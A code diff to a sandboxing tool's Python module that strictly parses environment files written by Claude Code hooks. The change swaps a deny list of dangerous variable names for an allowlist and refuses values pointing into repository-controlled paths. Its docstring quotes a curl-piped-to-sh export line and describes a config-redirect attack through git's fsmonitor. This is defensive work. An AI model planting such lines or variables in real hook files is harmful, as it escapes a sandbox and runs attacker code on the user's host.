@@ -2,23 +2,27 @@
 
 Claude Code gives SessionStart, Setup, CwdChanged and FileChanged hooks a file in
 `~/.claude/session-env/<session>/` and *sources it in bash, on the host,* before each of
-its Bash commands. Whatever sandboxrun copies there is code the host runs: a hook that
-writes `export X=$(curl x|sh)` or `export PATH=/repo/bin:$PATH` would step out of the
-sandbox through the agent. So:
+its Bash commands. Whatever sandboxrun copies there is code the host runs, and a variable
+that names a config file or folder is code too (`XDG_CONFIG_HOME` pointing at a
+repository's `git/config` with a `core.fsmonitor` runs it at the agent's next `git
+status`). So:
 
 - the hook writes to a per-run, empty host file of ours, bound read-write at a neutral
-  path (`TARGET`), never to the agent's file;
+  path (`TARGET`), never to the agent's file; the backend bounds how large it can grow
+  (Docker: `fsize` and a watch, `_backends/docker/backend.py`; Kubernetes refuses it);
 - afterwards the file is read (at most `MAX_BYTES`, else nothing is taken) and parsed
-  strictly: each line `export NAME=VALUE` or `NAME=VALUE`, NAME an identifier not in
-  `DENIED` (names that change which programs run or how shells and interpreters start),
-  VALUE a literal: unquoted without shell metacharacters, or single or double quoted
-  without `$`, backquotes or backslashes. Blank lines and `#` comments are skipped;
-  anything else is refused and reported;
+  strictly: each line `export NAME=VALUE` or `NAME=VALUE`, NAME on the user's allowlist
+  (`Settings.env_file_allow`, from the user's config file only; `DEFAULT_ALLOW` by
+  default: names that load no code), VALUE a literal (unquoted without shell
+  metacharacters, or single or double quoted without `$`, backquotes or backslashes)
+  that names no file a repository controls (`_points_into`). Blank lines and `#`
+  comments are skipped; anything else is refused and reported by name;
 - accepted lines are appended, re-quoted with `shlex.quote`, to the agent's file, and
-  only for hooks the user trusts (`run`: user, explicit and plugin hooks; `exec`: the
-  command the user wrapped). The agent's file must be one Claude Code made: a regular
-  file (or not yet there) in `~/.claude/session-env/`, so a variable a repository sets
-  cannot point the copy at another file.
+  only for hooks the user trusts (`run`: user, explicit and plugin hooks; `exec`: a
+  command without `--untrusted`, whatever `trust_workspace_decisions` says). The agent's
+  file must be one Claude Code made: a regular file (or not yet there) in
+  `~/.claude/session-env/`, so a variable a repository sets cannot point the copy at
+  another file.
 """
 
 from __future__ import annotations
@@ -29,11 +33,13 @@ import re
 import shlex
 import stat
 import tempfile
-from collections.abc import Iterable, Sequence
+from collections.abc import Collection, Iterable, Sequence
 from dataclasses import dataclass
 from pathlib import Path
 
 from ._mounts import under
+from ._text import printable
+from ._types import ExecRequest
 
 # Where the hook finds its file inside the sandbox (bound to a host file of ours).
 TARGET = "/run/sandboxrun/claude-env.sh"
@@ -43,21 +49,6 @@ MAX_BYTES = 64 << 10  # a real env file is a few lines; more is refused whole
 # Sources whose lines reach the agent's file (`run`); the others are reported, dropped.
 TRUSTED_SOURCES = frozenset({"user", "explicit", "plugin"})
 
-# Names that decide which programs run, how a shell or an interpreter starts, or what
-# it loads: one place, matched exactly or (entries ending in `*`) by prefix.
-DENIED = (
-    "PATH", "LD_*", "BASH_ENV", "ENV", "BASH_FUNC_*", "PROMPT_COMMAND", "PROMPT_DIRTRIM",
-    "IFS", "PS1", "PS2", "PS3", "PS4", "SHELLOPTS", "BASHOPTS", "CDPATH", "GLOBIGNORE",
-    "HISTFILE", "HOME", "SHELL", "TMPDIR", "INPUTRC", "TERMINFO", "ZDOTDIR", "FPATH",
-    "PYTHON*", "PIP_*", "UV_*", "VIRTUAL_ENV", "CONDA_*", "NODE_*", "NPM_CONFIG_*",
-    "PERL5*", "PERLLIB", "PERL_*", "RUBY*", "GEM_*", "BUNDLE_*", "GIT_*", "SSH_*",
-    "EDITOR", "VISUAL", "PAGER", "MANPAGER", "GIT_PAGER", "LESS*", "BROWSER",
-    "JAVA_TOOL_OPTIONS", "_JAVA_OPTIONS", "JDK_JAVA_OPTIONS", "CLASSPATH",
-    "DYLD_*", "GCONV_PATH", "LOCPATH", "NLSPATH", "MALLOC_*", "GLIBC_TUNABLES",
-    "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "NO_PROXY", "http_proxy", "https_proxy",
-    "all_proxy", "no_proxy", "SSL_CERT_*", "CURL_CA_BUNDLE", "REQUESTS_CA_BUNDLE",
-    "DOCKER_*", "KUBECONFIG", "CLAUDE_*", "ANTHROPIC_*", "SANDBOXRUN_*",
-)  # fmt: skip
 _NAME = re.compile(r"[A-Za-z_][A-Za-z0-9_]*")
 _LINE = re.compile(r"(?:export[ \t]+)?([^=\s]+)=(.*)")
 _PLAIN = re.compile(r"[A-Za-z0-9_@%+=:,./-]*")  # an unquoted value the shell keeps as is
@@ -79,12 +70,18 @@ class Parsed:
         return {"copied": [n for n, _ in self.accepted], "refused": list(self.refused)}
 
 
-def denied(name: str) -> bool:
-    return any(name.startswith(d[:-1]) if d.endswith("*") else name == d for d in DENIED)
+def places(request: ExecRequest) -> tuple[str, ...]:
+    """What a value must not point into: everything the hook had mounted (the workspace,
+    the files and folders its command named, the transcript) and the host folders it
+    could write (its state, its plugin data). Only these are known to hold files a
+    repository (or the hook) chose."""
+    private = (source for _, source in request.private_dirs if source)
+    return tuple(p for p in (*request.mounts, request.state, *private) if p)
 
 
-def parse(text: str) -> Parsed:
-    """The strict reading of an env file (module docstring)."""
+def parse(text: str, allow: Collection[str], inside: Sequence[str] = ()) -> Parsed:
+    """The strict reading of an env file (module docstring): names on `allow` only,
+    values that point into none of `inside` (`places`)."""
     accepted: list[tuple[str, str]] = []
     refused: list[str] = []
     for number, raw in enumerate(text.splitlines(), 1):
@@ -96,18 +93,51 @@ def parse(text: str) -> Parsed:
         if match is None:
             why = "not an `export NAME=VALUE` line"
         elif not _NAME.fullmatch(match[1]):
-            why = f"{match[1][:40]!r} is not a plain variable name"
-        elif denied(match[1]):
-            why = f"{match[1]} changes which programs run or how they start"
+            why = f"{printable(match[1][:40])!r} is not a plain variable name"
+        elif match[1] not in allow:
+            why = f"{match[1]} is not in env_file_allow"
         else:
             value = _literal(match[2])
             if value is None or any(ord(c) < 0x20 or ord(c) == 0x7F for c in value):
-                why = "the value is not a literal ($, backquotes, backslashes or shell syntax)"
+                why = f"{match[1]}: the value is not a literal ($, `, \\ or shell syntax)"
             else:
-                accepted.append((match[1], value))
-                continue
+                why = _points_into(value, inside)
+                if why is None:
+                    accepted.append((match[1], value))
+                    continue
+                why = f"{match[1]}: {why}"
         refused.append(f"line {number}: {why}")
     return Parsed(tuple(accepted), tuple(refused))
+
+
+# What separates paths in a value: `a:b` lists, `--opt=/x`, `a,b`, words of a quoted one.
+_PIECES = re.compile(r"[:=,;\s]+")
+# A URL: a file URL stands for its path; any other names a host, not a file of ours.
+_URL = re.compile(r"([A-Za-z][A-Za-z0-9+.-]*)://([^/\s,;]*)([^\s,;]*)")
+
+
+def _points_into(value: str, inside: Sequence[str]) -> str | None:
+    """Why `value` may name a file a repository controls, or None.
+
+    Conservative, since a value's meaning depends on the program that reads it: every
+    piece of it (split at `:`, `=`, `,`, `;` and blanks; a `file://` URL is its path,
+    other URLs name hosts, not files, and are skipped) that is a relative path (holds a
+    `/`, is `.` or `..`, starts with `~`: the agent would read it from whatever folder it
+    is in) is refused, and so is an absolute one that is, or lies below, a path in
+    `inside`, as written or once links are resolved. Other absolute paths pass: the
+    hook could not write there. A value naming another workspace of yours cannot be
+    told from a path you chose: that is what the name allowlist is for.
+    """
+    tops = [os.path.normpath(p) for p in inside] + [os.path.realpath(p) for p in inside]
+    value = _URL.sub(lambda m: m[3] or "/" if m[1].lower() == "file" else " ", value)
+    for piece in _PIECES.split(value):
+        if piece in (".", "..") or piece.startswith("~") or ("/" in piece and piece[0] != "/"):
+            return f"{printable(piece[:80])!r} is a relative path"
+        if piece.startswith("/") and (
+            under(os.path.normpath(piece), tops) or under(os.path.realpath(piece), tops)
+        ):
+            return f"{printable(piece[:80])!r} points into the workspace or a folder of the hook"
+    return None
 
 
 def _literal(text: str) -> str | None:
@@ -149,8 +179,8 @@ def discard(path: str) -> None:
         os.rmdir(os.path.dirname(path))
 
 
-def collect(path: str) -> Parsed:
-    """Read back and parse what the hook wrote to `path`, then delete the file. Opened
+def collect(path: str, allow: Collection[str], inside: Sequence[str] = ()) -> Parsed:
+    """Read back and `parse` what the hook wrote to `path`, then delete the file. Opened
     without following links or blocking; more than `MAX_BYTES` is refused whole."""
     try:
         fd = os.open(path, os.O_RDONLY | os.O_NOFOLLOW | os.O_NONBLOCK | os.O_CLOEXEC)
@@ -166,7 +196,7 @@ def collect(path: str) -> Parsed:
         discard(path)
     if len(raw) > MAX_BYTES:
         return Parsed(refused=(f"the env file holds more than {MAX_BYTES} bytes: nothing taken",))
-    return parse(raw.decode("utf-8", "replace"))
+    return parse(raw.decode("utf-8", "replace"), allow, inside)
 
 
 def agent_file(path: str | None, home: str, user_dir: str = ".claude") -> str | None:
